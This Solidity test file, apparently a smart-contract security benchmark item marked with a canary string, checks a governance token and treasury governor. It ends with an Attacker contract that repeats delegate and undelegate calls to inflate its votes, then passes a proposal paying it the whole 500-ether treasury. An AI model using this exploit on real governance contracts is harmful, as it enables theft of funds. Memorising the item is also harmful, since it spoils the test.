// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./CouncilToken.sol";
import {TreasuryGovernor} from "./context/TreasuryGovernor.sol";

// assay-canary-ce0bc21a-6280-4a9f-a1a7-350823d1c384

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant CAT = address(0xCA7);
    uint256 internal constant DAN_KEY = 0xDA9;

    CouncilToken internal token;
    TreasuryGovernor internal governor;
    Attacker internal mallory;
    address internal dan;

    function setUp() public {
        vm.deal(address(this), 520 ether);
        dan = vm.addr(DAN_KEY);
        token = new CouncilToken(address(this));
        governor = new TreasuryGovernor(token);
        (bool paid, ) = address(governor).call{value: 500 ether}("");
        require(paid, "treasury");
        mallory = new Attacker(token, governor);
        vm.prank(ANA);
        token.delegate(BEN);
        token.mint(ANA, 590_000e18);
        token.mint(BEN, 400_000e18);
        token.mint(address(mallory), 10_000e18);
        vm.roll(block.number + 10);
    }

    function test_Regular() public {
        require(token.getVotes(BEN) == 990_000e18 && token.delegates(CAT) == CAT, "ana's votes are ben's");
        vm.prank(ANA);
        token.delegate(CAT);
        require(token.getVotes(BEN) == 400_000e18 && token.getVotes(CAT) == 590_000e18, "ana's votes are cat's");
        require(token.getVotes(ANA) == 0, "none are hers");

        uint256 number = block.number;
        vm.roll(number + 1);
        require(token.getPastVotes(CAT, number - 1) == 0 && token.getPastVotes(CAT, number) == 590_000e18, "history");
        vm.prank(BEN);
        uint256 id = governor.propose(CAT, 10 ether, "");
        vm.roll(number + 2);
        vm.prank(ANA);
        token.transfer(dan, 90_000e18);
        vm.prank(CAT);
        governor.castVote(id, true);
        vm.prank(BEN);
        governor.castVote(id, false);
        (, , , , uint256 snapshot, uint256 ayes, uint256 noes, ) = governor.proposals(id);
        require(ayes == 590_000e18 && noes == 400_000e18, "votes as of the snapshot");
        vm.roll(snapshot + governor.VOTING_PERIOD() + governor.EXECUTION_DELAY() + 1);
        uint256 before = CAT.balance;
        governor.execute(id);
        require(CAT.balance == before + 10 ether, "paid");

        vm.prank(BEN);
        id = governor.propose(CAT, 10 ether, "");
        vm.prank(BEN);
        governor.cancel(id);

        vm.prank(ANA);
        token.delegate(address(0));
        require(token.getVotes(ANA) == 500_000e18 && token.getVotes(CAT) == 0, "ana votes herself");
        signed();
        vm.prank(ANA);
        token.approve(address(this), 7e18);
        token.transferFrom(ANA, CAT, 7e18);
        require(token.getVotes(CAT) == 7e18, "votes follow");
        vm.prank(CAT);
        token.burn(2e18);
        require(token.getVotes(CAT) == 5e18 && token.totalSupply() == 999_998e18, "burnt");
        paidIn();
        token.transferOwnership(ANA);
        vm.prank(ANA);
        token.renounceOwnership();
    }

    /// Dan, who holds nothing yet, signs that ben votes for him.
    function signed() internal {
        vm.prank(dan);
        token.transfer(ANA, 90_000e18);
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(DAN_KEY, digest(BEN, 0, block.timestamp));
        token.delegateBySig(BEN, 0, block.timestamp, v, r, s);
        vm.prank(ANA);
        token.transfer(dan, 90_000e18);
        require(token.getVotes(BEN) == 490_000e18 && token.nonces(dan) == 1, "dan's votes are ben's");
        require(token.getVotes(dan) == 0 && token.getVotes(ANA) == 500_000e18, "moved");
    }

    function paidIn() internal {
        (bool paid, ) = address(governor).call{value: 1 ether}("");
        require(paid && address(governor).balance == 491 ether, "paid in");
    }

    function digest(address delegatee, uint256 nonce, uint256 expiry) internal view returns (bytes32) {
        bytes32 kind = keccak256("Delegation(address delegatee,uint256 nonce,uint256 expiry)");
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Council"),
                keccak256("1"),
                block.chainid,
                address(token)
            )
        );
        return keccak256(abi.encodePacked("\x19\x01", domain, keccak256(abi.encode(kind, delegatee, nonce, expiry))));
    }

    function test_RefusesSignatures() public {
        vm.warp(1_800_000_000);
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(DAN_KEY, digest(BEN, 0, block.timestamp));
        vm.warp(1_800_000_001);
        vm.expectRevert(abi.encodeWithSelector(VotingToken.SignatureExpired.selector, 1_800_000_000));
        token.delegateBySig(BEN, 0, 1_800_000_000, v, r, s);
        vm.warp(1_800_000_000);
        token.delegateBySig(BEN, 0, 1_800_000_000, v, r, s);
        vm.expectRevert(abi.encodeWithSelector(Nonces.InvalidAccountNonce.selector, dan, 1));
        token.delegateBySig(BEN, 0, 1_800_000_000, v, r, s);
        vm.expectRevert();
        token.delegateBySig(BEN, 1, 1_800_000_000, 1, r, s);
    }

    function test_RefusesIssues() public {
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        token.mint(ANA, 1);
        vm.expectRevert(abi.encodeWithSelector(CouncilToken.CapExceeded.selector, 10_000_000e18 + 1, 10_000_000e18));
        token.mint(ANA, 9_000_000e18 + 1);
        uint256 number = block.number;
        vm.expectRevert(abi.encodeWithSelector(VotingToken.NotYetMined.selector, number, number));
        token.getPastVotes(ANA, number);
        vm.expectRevert(abi.encodeWithSelector(VotingToken.NotYetMined.selector, number, number));
        token.getPastTotalSupply(number);
    }

    function test_RefusesVotes() public {
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.BelowThreshold.selector, 0, 10_000e18));
        governor.propose(ANA, 0, "");
        uint256 number = block.number;
        vm.startPrank(BEN);
        governor.propose(ANA, 1 ether, "");
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.VotingClosed.selector, 0));
        governor.castVote(0, true);
        vm.roll(number + 50_401);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.VotingClosed.selector, 0));
        governor.castVote(0, true);
        vm.roll(number + 50_400);
        governor.castVote(0, true);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.AlreadyVoted.selector, 0, BEN));
        governor.castVote(0, true);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.OnlyProposer.selector, BEN));
        governor.cancel(0);
    }

    function test_RefusesExecution() public {
        uint256 number = block.number;
        vm.startPrank(BEN);
        governor.propose(ANA, 1 ether, "");
        governor.propose(ANA, 1 ether, "");
        governor.propose(address(token), 0, abi.encodeCall(token.mint, (BEN, 1)));
        governor.propose(ANA, 1 ether, "");
        vm.roll(number + 1);
        governor.castVote(0, true);
        governor.castVote(2, true);
        governor.castVote(3, false);
        governor.cancel(1);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.ProposalClosed.selector, 1));
        governor.cancel(1);
        vm.stopPrank();
        vm.roll(number + 64_800);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.NotExecutable.selector, 0));
        governor.execute(0);
        vm.roll(number + 165_601);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.NotExecutable.selector, 0));
        governor.execute(0);
        vm.roll(number + 165_600);
        governor.execute(0);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.ProposalClosed.selector, 0));
        governor.execute(0);
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(governor));
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.CallFailed.selector, why));
        governor.execute(2);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.ProposalDefeated.selector, 3));
        governor.execute(3);
    }

    /// A quorum that more votes are against, and a majority below the quorum.
    function test_RefusesDefeated() public {
        token.mint(CAT, 450_000e18);
        vm.roll(block.number + 1);
        uint256 number = block.number;
        vm.startPrank(BEN);
        governor.propose(ANA, 1 ether, "");
        governor.propose(ANA, 1 ether, "");
        vm.roll(number + 1);
        governor.castVote(0, false);
        vm.stopPrank();
        token.mint(CAT, 1);
        vm.startPrank(CAT);
        governor.castVote(0, true);
        governor.castVote(1, true);
        vm.roll(number + 64_801);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.ProposalDefeated.selector, 1));
        governor.execute(1);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.ProposalDefeated.selector, 0));
        governor.execute(0);
        vm.stopPrank();
    }

    /// A quorum is there, and as many are against.
    function test_RefusesTies() public {
        token.mint(CAT, 990_000e18);
        vm.roll(block.number + 1);
        uint256 number = block.number;
        vm.prank(CAT);
        governor.propose(ANA, 1 ether, "");
        vm.roll(number + 1);
        vm.prank(CAT);
        governor.castVote(0, true);
        vm.prank(BEN);
        governor.castVote(0, false);
        vm.roll(number + 64_801);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.ProposalDefeated.selector, 0));
        governor.execute(0);
    }

    function exploit() public {
        mallory.gather();
        mallory.propose();
        vm.roll(block.number + 1);
        mallory.vote();
        vm.roll(block.number + 64_801);
        mallory.execute();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 500 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(token);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CouncilToken internal token;
    TreasuryGovernor internal governor;

    constructor(CouncilToken token_, TreasuryGovernor governor_) {
        token = token_;
        governor = governor_;
    }

    function gather() external {
        for (uint256 i = 0; i < 60; i++) {
            token.delegate(address(this));
            token.delegate(address(0));
        }
    }

    function propose() external {
        governor.propose(address(this), address(governor).balance, "");
    }

    function vote() external {
        governor.castVote(0, true);
    }

    function execute() external {
        governor.execute(0);
    }

    receive() external payable {}
}
